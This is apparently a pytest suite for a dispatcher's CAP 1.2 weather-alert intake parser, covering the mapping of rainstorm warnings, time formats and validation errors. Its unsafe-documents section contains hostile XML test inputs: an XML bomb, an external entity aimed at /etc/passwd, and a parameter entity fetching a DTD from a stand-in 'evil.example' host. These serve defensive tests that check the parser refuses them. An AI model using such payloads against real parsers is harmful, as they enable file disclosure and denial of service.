"""CAP 1.2 intake: both dialects map onto the JSON form; unsafe or foreign documents are refused."""

from __future__ import annotations

from pathlib import Path

import pytest

from dispatcher.intake.cap import parse_cap
from dispatcher.intake.errors import IntakeError
from dispatcher.intake.schema import parse_warning_dict

FIXTURES = Path(__file__).parents[1] / "fixtures" / "cap"
GOOD = ["oasis-alert", "oasis-update", "oasis-cancel", "cn-alert", "cn-update", "cn-cancel"]


def load(name: str) -> bytes:
    return (FIXTURES / f"{name}.xml").read_bytes()


def variant(name: str, *replacements: tuple[str, str]) -> bytes:
    """A fixture with text replaced; each old text must be there, so the tests can't go stale."""
    text = load(name).decode()
    for old, new in replacements:
        assert old in text, f"{old!r} not in {name}"
        text = text.replace(old, new)
    return text.encode()


def refused(body: bytes) -> IntakeError:
    with pytest.raises(IntakeError) as caught:
        parse_cap(body)
    return caught.value


def without_texts(data: dict) -> dict:
    return {k: v for k, v in data.items() if k not in ("description", "instruction")}


# -- the six good fixtures -------------------------------------------------------------------


def test_oasis_alert_maps_to_rainstorm_red_for_two_towns():
    data = parse_cap(load("oasis-alert"))

    assert without_texts(data) == {
        "sender": "qingxi-qx",
        "identifier": "QX-2026-0716-001",
        "msg_type": "alert",
        "references": [],
        "hazard": "rainstorm",
        "level": "red",
        "areas": ["330599100", "330599101"],
        "headline": "青溪县气象台发布暴雨红色预警信号",
        "sent": "2026-07-16T03:10:00+08:00",
        "expires": "2026-07-16T15:00:00+08:00",
        "drill": False,
    }
    assert data["description"].startswith("青溪县气象台2026年7月16日03时10分发布暴雨红色预警信号")
    assert data["instruction"].startswith("请立即停止户外作业")


def test_oasis_alert_uses_the_chinese_info_block_although_english_comes_first():
    data = parse_cap(load("oasis-alert"))

    assert "Qingxi" not in data["headline"] + data["description"]


def test_oasis_alert_without_a_chinese_info_uses_the_first_one():
    body = variant("oasis-alert", ("<language>zh-CN</language>", "<language>fr-FR</language>"))

    assert parse_cap(body)["headline"] == "Qingxi County issues a red rainstorm warning signal"


def test_oasis_update_keeps_red_from_severity_and_adds_taoyuan_ignoring_the_zone_geocode():
    data = parse_cap(load("oasis-update"))

    assert without_texts(data) == {
        "sender": "qingxi-qx",
        "identifier": "QX-2026-0716-002",
        "msg_type": "update",
        "references": ["QX-2026-0716-001"],
        "hazard": "rainstorm",
        "level": "red",
        "areas": ["330599100", "330599101", "330599200"],
        "headline": "青溪县气象台继续发布暴雨红色预警信号，范围扩大至桃源乡",
        "sent": "2026-07-16T06:40:00+08:00",
        "expires": "2026-07-16T20:00:00+08:00",
        "drill": False,
    }


def test_oasis_cancel_without_info_references_alert_and_update_and_leaves_hazard_out():
    data = parse_cap(load("oasis-cancel"))

    assert data == {
        "sender": "qingxi-qx",
        "identifier": "QX-2026-0716-003",
        "msg_type": "cancel",
        "references": ["QX-2026-0716-001", "QX-2026-0716-002"],
        "sent": "2026-07-16T18:30:00+08:00",
        "expires": None,
        "drill": False,
        "description": "雨势明显减弱，青溪县气象台解除暴雨红色预警信号。",
        "instruction": "",
    }


def test_cn_alert_maps_cma_0203_to_rainstorm_orange_for_three_towns():
    data = parse_cap(load("cn-alert"))

    assert without_texts(data) == {
        "sender": "33059941600000",
        "identifier": "33059941600000_20260716021500",
        "msg_type": "alert",
        "references": [],
        "hazard": "rainstorm",
        "level": "orange",
        "areas": ["330599100", "330599101", "330599200"],
        "headline": "青溪县气象台发布暴雨橙色预警",
        "sent": "2026-07-16T02:15:00+08:00",
        "expires": "2026-07-17T02:15:00+08:00",
        "drill": False,
    }
    assert data["instruction"].startswith("1.政府及相关部门")


def test_cn_update_raises_orange_to_red_with_basic_time_and_padded_codes():
    data = parse_cap(load("cn-update"))

    assert without_texts(data) == {
        "sender": "33059941600000",
        "identifier": "33059941600000_20260716054000",
        "msg_type": "update",
        "references": ["33059941600000_20260716021500"],
        "hazard": "rainstorm",
        "level": "red",
        "areas": ["330599100", "330599101", "330599200"],
        "headline": "青溪县气象台将暴雨橙色预警升级为红色预警",
        "sent": "2026-07-16T05:40:00+08:00",
        "expires": "2026-07-16T17:40:00+08:00",
        "drill": False,
    }


def test_cn_cancel_references_the_first_message_and_keeps_its_info():
    data = parse_cap(load("cn-cancel"))

    assert without_texts(data) == {
        "sender": "33059941600000",
        "identifier": "33059941600000_20260716183000",
        "msg_type": "cancel",
        "references": ["33059941600000_20260716021500"],
        "hazard": "rainstorm",
        "level": "red",
        "areas": ["330599100", "330599101", "330599200"],
        "headline": "青溪县气象台解除暴雨红色预警",
        "sent": "2026-07-16T18:30:00+08:00",
        "expires": None,
        "drill": False,
    }


@pytest.mark.parametrize("name", GOOD)
def test_every_good_fixture_passes_parse_warning_dict(name):
    data = parse_cap(load(name))

    warning = parse_warning_dict(data)

    assert warning.identifier == data["identifier"]
    assert warning.sent.utcoffset().total_seconds() == 8 * 3600


@pytest.mark.parametrize("dialect", ["oasis", "cn"])
def test_update_and_cancel_reference_the_alert_of_their_dialect(dialect):
    alert = parse_cap(load(f"{dialect}-alert"))

    for kind in ("update", "cancel"):
        message = parse_cap(load(f"{dialect}-{kind}"))
        assert message["sender"] == alert["sender"]
        assert alert["identifier"] in message["references"]


# -- unsafe, malformed and foreign documents (400) ---------------------------------------------


def test_xml_bomb_is_refused_with_400_and_says_why():
    error = refused(load("xml-bomb"))

    assert error.status == 400
    assert "entity declarations are not accepted" in error.message
    assert "entity-expansion" in error.message


def test_external_entity_is_refused_with_400_and_says_why():
    error = refused(load("external-entity"))

    assert error.status == 400
    assert "external entity references are not accepted" in error.message
    assert "file:///etc/passwd" in error.message


def test_external_parameter_entity_is_refused_with_400():
    body = (b'<?xml version="1.0"?><!DOCTYPE alert [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
            b"<alert/>")

    error = refused(body)

    assert (error.status, "external entity references are not accepted" in error.message) == (400, True)


def test_not_cap_rss_is_refused_with_400_naming_the_root():
    error = refused(load("not-cap"))

    assert error.status == 400
    assert error.message.startswith("not a CAP 1.2 alert: the root element is <rss>")


def test_html_is_refused_with_400_as_not_cap():
    error = refused(b"<html><body><p>\xe6\x9a\xb4\xe9\x9b\xa8</p></body></html>")

    assert (error.status, "the root element is <html>" in error.message) == (400, True)


def test_alert_in_a_foreign_namespace_is_refused_with_400_naming_it():
    error = refused(b'<alert xmlns="http://example.com/alerts"><identifier>x</identifier></alert>')

    assert error.status == 400
    assert "not a CAP 1.2 alert" in error.message
    assert "'http://example.com/alerts'" in error.message


def test_cap11_is_refused_with_400_saying_only_cap12_is_accepted():
    error = refused(load("cap11"))

    assert error.status == 400
    assert "CAP 1.1 is not accepted" in error.message
    assert "only CAP 1.2" in error.message


def test_cap10_is_refused_with_400_saying_only_cap12_is_accepted():
    error = refused(b'<alert xmlns="http://www.incident.com/cap/1.0"/>')

    assert (error.status, "CAP 1.0 is not accepted" in error.message) == (400, True)


def test_malformed_xml_is_refused_with_400_and_the_parser_message():
    error = refused(load("malformed"))

    assert error.status == 400
    assert error.message.startswith("malformed XML: no element found: line 7")


def test_empty_body_is_malformed_xml():
    assert refused(b"").message.startswith("malformed XML:")


def test_gbk_encoded_chinese_profile_is_read():
    body = load("cn-alert").decode().replace('encoding="UTF-8"', 'encoding="GB2312"').encode("gbk")

    assert parse_cap(body)["headline"] == "青溪县气象台发布暴雨橙色预警"


# -- readable alerts with bad or missing values (422) ------------------------------------------


def test_unknown_hazard_is_422_naming_info_event_and_the_accepted_codes():
    error = refused(load("unknown-hazard"))

    assert error.status == 422
    assert error.problems[0].field == "info.event"
    assert "'冻雨黄色预警'" in error.message
    assert "accepted: typhoon, rainstorm" in error.message


def test_no_geocode_is_422_naming_info_area_geocode():
    error = refused(load("no-geocode"))

    assert error.status == 422
    assert error.message.startswith("info.area.geocode: no division code")


def test_a_bad_code_in_a_division_geocode_is_422_naming_it():
    body = variant("cn-alert", ("330599100,330599101", "330599100,33059910"))

    error = refused(body)

    assert (error.status, error.problems[0].field) == (422, "info.area.geocode")
    assert "'33059910' is not a division code" in error.message


@pytest.mark.parametrize("msg_type", ["Ack", "Error"])
def test_ack_and_error_messages_are_422_naming_msgtype(msg_type):
    error = refused(variant("oasis-alert", ("<msgType>Alert</msgType>", f"<msgType>{msg_type}</msgType>")))

    assert (error.status, error.problems[0].field) == (422, "msgType")
    assert f"{msg_type} messages are not warnings" in error.message


@pytest.mark.parametrize("status", ["System", "Draft"])
def test_system_and_draft_status_are_422_not_dispatched(status):
    error = refused(variant("oasis-alert", ("<status>Actual</status>", f"<status>{status}</status>")))

    assert (error.status, error.problems[0].field) == (422, "status")
    assert "messages are not dispatched" in error.message


def test_missing_required_elements_are_422_naming_each():
    body = variant(
        "oasis-alert",
        ("<identifier>QX-2026-0716-001</identifier>", ""),
        ("<sent>2026-07-16T03:10:00+08:00</sent>", ""),
        ("<msgType>Alert</msgType>", ""),
    )

    error = refused(body)

    assert error.status == 422
    assert [p.field for p in error.problems] == ["identifier", "sent", "msgType"]


def test_cn_alert_without_sender_or_sendercode_is_422_naming_sender():
    body = variant(
        "cn-alert", ("<sender>青溪县气象台</sender>", ""), ("<senderCode>33059941600000</senderCode>", "")
    )

    assert refused(body).message.startswith("sender: is required")


def test_alert_without_info_is_422():
    body = load("oasis-cancel").replace(b"<msgType>Cancel</msgType>", b"<msgType>Alert</msgType>")

    error = refused(body)

    assert (error.status, error.message) == (422, "info: an alert must carry an <info> block")


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ("<sent>2026-07-16T03:10:00+08:00</sent>", "<sent>16/07/2026 03:10</sent>", "sent"),
        ("<sent>2026-07-16T03:10:00+08:00</sent>", "<sent>2026-13-40T03:10:00+08:00</sent>", "sent"),
        ("<expires>2026-07-16T15:00:00+08:00</expires>", "<expires>tomorrow</expires>", "info.expires"),
    ],
)
def test_bad_times_are_422_naming_the_element(old, new, field):
    error = refused(variant("oasis-alert", (old, new)))

    assert (error.status, error.problems[0].field) == (422, field)
    assert "is not a time" in error.message


def test_oasis_time_without_offset_is_422():
    error = refused(variant("oasis-alert", ("<sent>2026-07-16T03:10:00+08:00", "<sent>2026-07-16T03:10:00")))

    assert error.message == (
        "sent: '2026-07-16T03:10:00' must carry a UTC offset, e.g. 2026-07-16T03:10:00+08:00"
    )


# -- the mapping rules -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "hazard", "level"),
    [
        ("0204", "rainstorm", "red"),
        ("0501", "gale", "blue"),
        ("0902", "lightning", "yellow"),
        ("0103", "typhoon", "orange"),
        ("1603", "thunderstorm_gale", "orange"),
    ],
)
def test_cma_ttll_event_code_gives_hazard_and_level_before_event_and_severity(code, hazard, level):
    data = parse_cap(variant("cn-alert", ("<value>0203</value>", f"<value>{code}</value>")))

    assert (data["hazard"], data["level"]) == (hazard, level)


def test_cma_code_with_white_colour_leaves_the_level_to_severity():
    data = parse_cap(variant("cn-alert", ("<value>0203</value>", "<value>0200</value>")))

    assert (data["hazard"], data["level"]) == ("rainstorm", "orange")


@pytest.mark.parametrize(
    ("event", "hazard"),
    [
        ("暴雨", "rainstorm"),
        ("暴雨预警", "rainstorm"),
        ("暴雨红色预警", "rainstorm"),
        ("暴雨红色预警信号", "rainstorm"),
        ("台风", "typhoon"),
        ("雷雨大风黄色预警", "thunderstorm_gale"),
        ("地质灾害气象风险橙色预警", "geohazard"),
        ("Rainstorm", "rainstorm"),
        ("flash_flood", "flash_flood"),
    ],
)
def test_event_text_gives_the_hazard(event, hazard):
    data = parse_cap(variant("oasis-update", ("<event>暴雨</event>", f"<event>{event}</event>")))

    assert data["hazard"] == hazard


def test_colour_in_the_event_gives_the_level_when_nothing_else_does():
    body = variant(
        "cn-alert",
        ("<value>0203</value>", "<value>none</value>"),
        ("<event>暴雨橙色预警</event>", "<event>暴雨黄色预警</event>"),
        ("<severity>Orange</severity>", "<severity>Unknown</severity>"),
    )

    assert parse_cap(body)["level"] == "yellow"


@pytest.mark.parametrize(
    ("severity", "level"),
    [("Extreme", "red"), ("Severe", "orange"), ("Moderate", "yellow"), ("Minor", "blue")],
)
def test_oasis_severity_is_the_last_fallback_for_the_level(severity, level):
    body = variant("oasis-update", ("<severity>Extreme</severity>", f"<severity>{severity}</severity>"))

    data = parse_cap(body)

    assert data["level"] == level


def test_unknown_severity_with_nothing_else_is_422_naming_info_severity():
    error = refused(variant("oasis-update", ("<severity>Extreme</severity>", "<severity>Unknown</severity>")))

    assert (error.status, error.problems[0].field) == (422, "info.severity")
    assert "'Unknown' gives no level" in error.message


@pytest.mark.parametrize(
    ("name", "value", "level"),
    [
        ("level", "orange", "orange"),
        ("预警级别", "橙色", "orange"),
        ("colour", "Yellow", "yellow"),
        ("预警等级", "Ⅱ级", "orange"),
        ("alert_level", "IV", "blue"),
        ("预警等级", "紫色", None),
    ],
)
def test_a_level_parameter_wins_over_severity(name, value, level):
    body = variant(
        "oasis-alert",
        ("<valueName>level</valueName>\n      <value>red</value>",
         f"<valueName>{name}</valueName><value>{value}</value>"),
    )
    if level is None:  # a named level that cannot be read is refused, not skipped
        error = refused(body)
        assert (error.status, error.problems[0].field) == (422, "info.parameter")
        assert "unknown level" in error.message
    else:
        assert parse_cap(body)["level"] == level


def test_a_water_level_parameter_is_not_taken_for_the_warning_level():
    body = variant("oasis-alert", ("<valueName>level</valueName>\n      <value>red</value>",
                                   "<valueName>waterLevel</valueName><value>32.5</value>"))

    assert parse_cap(body)["level"] == "red"  # from severity Extreme


@pytest.mark.parametrize(
    ("sent", "expected"),
    [
        ("2026-07-16 02:15:00+08:00", "2026-07-16T02:15:00+08:00"),
        ("20260716021500", "2026-07-16T02:15:00+08:00"),
        ("2026-07-16 02:15:00", "2026-07-16T02:15:00+08:00"),
        ("2026-07-16T02:15:00+08:00", "2026-07-16T02:15:00+08:00"),
        ("2026-07-15T18:15:00-00:00", "2026-07-15T18:15:00+00:00"),
    ],
)
def test_chinese_profile_times_are_read_as_beijing_time(sent, expected):
    body = variant("cn-alert", ("<sent>2026-07-16 02:15:00+08:00</sent>", f"<sent>{sent}</sent>"))

    assert parse_cap(body)["sent"] == expected


@pytest.mark.parametrize("status", ["Exercise", "Test"])
def test_exercise_and_test_status_are_drills(status):
    data = parse_cap(variant("oasis-alert", ("<status>Actual</status>", f"<status>{status}</status>")))

    assert data["drill"] is True
    assert parse_warning_dict(data).drill is True


@pytest.mark.parametrize(
    "references", ["33059941600000_20260716021500,33059941600000_20260716054000",
                   "33059941600000_20260716021500 33059941600000_20260716054000"]
)
def test_cn_references_may_list_several_identifiers(references):
    body = variant("cn-cancel", ("<references>33059941600000_20260716021500</references>",
                                 f"<references>{references}</references>"))

    assert parse_cap(body)["references"] == ["33059941600000_20260716021500", "33059941600000_20260716054000"]


def test_cn_sender_falls_back_to_the_sender_name_without_sendercode():
    data = parse_cap(variant("cn-alert", ("<senderCode>33059941600000</senderCode>", "")))

    assert data["sender"] == "青溪县气象台"


def test_cancel_with_an_unreadable_hazard_leaves_it_to_the_cancelled_warning():
    body = variant("cn-cancel", ("<event>暴雨红色预警</event>", "<event>解除预警</event>"),
                   ("<value>0204</value>", "<value>none</value>"))

    data = parse_cap(body)

    assert "hazard" not in data and data["level"] == "red"
    assert parse_warning_dict(data).hazard is None


def test_headline_falls_back_to_the_event():
    data = parse_cap(variant("cn-alert", ("<headline>青溪县气象台发布暴雨橙色预警</headline>", "")))

    assert data["headline"] == "暴雨橙色预警"


def test_a_village_code_in_a_plain_geocode_is_kept():
    data = parse_cap(variant("cn-alert", ("330599100,330599101,330599200", "330599100201，330599101")))

    assert data["areas"] == ["330599100201", "330599101"]
